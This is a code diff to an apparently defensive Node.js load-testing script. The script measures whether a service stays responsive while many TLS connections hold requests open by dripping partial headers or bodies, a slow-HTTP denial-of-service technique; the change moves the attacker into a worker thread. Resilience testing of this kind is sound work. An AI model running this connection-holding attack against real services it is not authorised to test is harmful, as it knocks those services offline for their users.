@@ -6,8 +6,9 @@ import https from 'node:https';
 import http from 'node:http';
 import path from 'node:path';
 import tls from 'node:tls';
-import { pathToFileURL } from 'node:url';
+import { fileURLToPath } from 'node:url';
 import { parseArgs } from 'node:util';
+import { isMainThread, parentPort, Worker, workerData } from 'node:worker_threads';
 
 const pause = (millis) => new Promise((next) => setTimeout(next, millis));
 const addresses = 250;
@@ -17,7 +18,8 @@ const reopenAfterMillis = 5_000;
 
 const attacks = {
   bodies: {
-    begin: 'POST /api/v1/sessions HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{',
+    begin:
+      'POST /api/v1/sessions HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{',
     drip: ' ',
   },
   headers: { begin: 'GET /api/v1/sessions/current HTTP/1.1\r\nHost: a\r\nX-Slow: ', drip: 'a' },
@@ -27,23 +29,24 @@ function percentile(sorted, share) {
   return sorted.length === 0 ? NaN : sorted[Math.min(sorted.length - 1, Math.floor(sorted.length * share))];
 }
 
-/** Opens the connections again when the service closes them, until `stop` is called. */
-function attack({ base, ca, insecure, count, bytesPerSecond }, { begin, drip }) {
+/** Opens the connections again when the service closes them, in a thread of its own, until that is terminated. */
+function attack({ base, ca, insecure, count, bytesPerSecond, kind }) {
+  const { begin, drip } = attacks[kind];
   const { hostname, port } = new URL(base);
+  const secureContext = tls.createSecureContext({ ca });
   const sockets = new Set();
-  const state = { opened: 0, closed: 0, stopped: false };
+  let closed = 0;
   const open = (number) =>
     new Promise((settled) => {
       const socket = tls.connect({
         host: hostname,
         port: Number(port || 443),
         localAddress: `127.0.${1 + Math.floor(number / addresses / 250)}.${2 + (number % addresses)}`,
-        ca,
+        secureContext,
         rejectUnauthorized: !insecure,
         servername: '',
       });
       socket.on('secureConnect', () => {
-        state.opened++;
         sockets.add(socket);
         socket.write(begin);
         settled();
@@ -51,32 +54,39 @@ function attack({ base, ca, insecure, count, bytesPerSecond }, { begin, drip }) 
       socket.on('error', () => {});
       socket.on('data', () => {});
       socket.on('close', () => {
-        state.closed++;
+        closed++;
         sockets.delete(socket);
         settled();
-        if (!state.stopped) setTimeout(() => state.stopped || open(number), reopenAfterMillis);
+        setTimeout(() => open(number), reopenAfterMillis);
       });
     });
-  const begun = (async () => {
-    for (let number = 0; number < count && !state.stopped; number += opening) {
-      await Promise.all(Array.from({ length: Math.min(opening, count - number) }, (_, next) => open(number + next)));
-    }
-  })();
   let turn = 0;
-  const dripping = setInterval(() => {
+  setInterval(() => {
     const all = [...sockets];
     for (let byte = 0; byte < bytesPerSecond && all.length > 0; byte++) all[turn++ % all.length].write(drip);
   }, 1_000);
-  return {
-    begun,
-    state,
-    held: () => sockets.size,
-    stop: () => {
-      state.stopped = true;
-      clearInterval(dripping);
-      sockets.forEach((socket) => socket.destroy());
-    },
+  const report = () => parentPort.postMessage({ held: sockets.size, closed });
+  setInterval(report, 200);
+  const begun = async () => {
+    for (let number = 0; number < count; number += opening) {
+      await Promise.all(Array.from({ length: Math.min(opening, count - number) }, (_, next) => open(number + next)));
+    }
+    parentPort.postMessage({ held: sockets.size, closed, begun: true });
   };
+  begun();
+}
+
+function attacking(options) {
+  const thread = new Worker(fileURLToPath(import.meta.url), { workerData: options });
+  const running = { held: 0, closed: 0, stop: () => thread.terminate() };
+  running.begun = new Promise((settled, failed) => {
+    thread.on('error', failed);
+    thread.on('message', ({ held, closed, begun }) => {
+      Object.assign(running, { held, closed });
+      if (begun) settled();
+    });
+  });
+  return running;
 }
 
 function timed(client, options) {
@@ -96,11 +106,12 @@ function timed(client, options) {
 async function crowd({ base, ca, insecure, token, place, users, seconds, localAddress }) {
   const url = new URL(place, base);
   const headers = token ? { authorization: `Bearer ${token}` } : {};
+  const secureContext = tls.createSecureContext({ ca });
   const results = [];
   const end = performance.now() + seconds * 1_000;
   await Promise.all(
     Array.from({ length: users }, async (_, user) => {
-      const agent = new https.Agent({ keepAlive: true, maxSockets: 1, ca, rejectUnauthorized: !insecure });
+      const agent = new https.Agent({ keepAlive: true, maxSockets: 1, secureContext, rejectUnauthorized: !insecure });
       const options = {
         hostname: url.hostname,
         port: url.port,
@@ -170,25 +181,28 @@ export async function slow(options) {
   await measured({ ...all, seconds: 5 }); // warms the service up
   const quiet = await measured(all);
   const rows = [{ name: `${all.users} users, quiet`, held: quiet.failed === 0, measured: described(quiet) }];
-  for (const [name, kind] of Object.entries(attacks)) {
-    const running = attack({ ...all, count: all.attackers }, kind);
+  for (const kind of Object.keys(attacks)) {
+    const { base, ca, insecure, bytesPerSecond } = all;
+    const running = attacking({ base, ca, insecure, bytesPerSecond, kind, count: all.attackers });
     // Also on a service that does not accept all of them.
     await Promise.race([running.begun, pause(60_000)]);
-    const before = running.held();
+    const before = running.held;
     const result = await measured(all);
-    const after = running.held();
-    running.stop();
+    const after = running.held;
+    await running.stop();
     rows.push({
-      name: `${all.attackers} connections drip ${name}, ${all.bytesPerSecond} B/s in all`,
+      name: `${all.attackers} connections drip ${kind}, ${bytesPerSecond} B/s in all`,
       held: result.failed === 0 && result.health !== null && result.p95 < 2 * Math.max(quiet.p95, 1),
-      measured: `${described(result)}; ${before} to ${after} open, ${running.state.closed} closed by the service`,
+      measured: `${described(result)}; ${before} to ${after} open, ${running.closed} closed by the service`,
     });
     await pause(2_000);
   }
   return rows;
 }
 
-if (process.argv[1] && import.meta.url === pathToFileURL(path.resolve(process.argv[1])).href) {
+if (!isMainThread && workerData?.kind) {
+  attack(workerData);
+} else if (process.argv[1] && fileURLToPath(import.meta.url) === path.resolve(process.argv[1])) {
   const number = { type: 'string' };
   const { values } = parseArgs({
     options: {
